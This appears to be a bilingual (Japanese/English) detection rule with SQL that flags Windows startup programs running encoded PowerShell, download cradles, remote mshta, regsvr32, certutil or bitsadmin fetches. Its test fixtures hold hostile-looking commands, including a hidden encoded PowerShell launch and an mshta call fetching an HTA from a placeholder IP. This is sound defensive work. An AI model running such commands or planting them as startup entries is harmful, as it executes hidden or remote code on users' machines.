/*---
title: {ja: 全員の、または見た時にいた人のログオンで、隠した命令や外から取ってきたものが動く, en: "At logon of all, or of somebody logged in at the look, something hidden or downloaded is run"}
severity: high
subject: asset
key: [asset, name]
scope: select asset from hosts where platform = 'windows'
why:
  ja: 命令を文字の列に変えて隠したり、外から取ってきて動かしたりするのは、ウイルスの決まった手口です。業務ソフトはまず使いません。
  en: Commands turned into a row of letters, or fetched from outside and run, are a usual trick of malware. Ordinary software hardly does so.
message:
  ja: "{asset}: {name} が {command} を始めます"
  en: "{asset}: {name} starts {command}"
fix:
  cost: none
  ja: 消さずに写しを取り、その機器をネットワークから離して、連絡先の表の順に相談してください。
  en: Do not delete it. Keep a copy, take the machine off the network and call along your list of contacts.
  run: |
    reg query "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
ask:
  ja: この命令が製品の一部かを確認してください。
  en: Ask whether this belongs to the product.
examples:
  now: 2026-01-31
  bad:
    hosts: [{asset: a, platform: windows}, {asset: lx, platform: linux}]
    startup_programs:
      - {asset: a, name: upd, command: 'powershell.exe -w hidden -enc SQBFAFgA'}
      - {asset: a, name: hta, command: 'mshta.exe http://203.0.113.5/a.hta', account: S-1-5-21-1-2-3-1105}
      - {asset: a, name: good, command: '"C:\Program Files\Karte\karte.exe" -e'}
      - {asset: lx, name: x, command: 'powershell.exe -enc SQBFAFgA'}
    fails: [[a, upd], [a, hta]]
  good:
    hosts: [{asset: a, platform: windows}]
    startup_programs: [{asset: a, name: SecurityHealth, command: '%windir%\system32\SecurityHealthSystray.exe'}]
    passes: [a]
---*/
select asset, name, command, evidence
from startup_programs
where regexp_matches(lower(command), 'powershell.* -e(nc?|ncodedcommand)? |downloadstring|downloadfile|frombase64string|mshta(.exe)?"? +"?(https?|javascript|vbscript):|regsvr32.* /i:http|certutil.*urlcache|bitsadmin.*transfer')
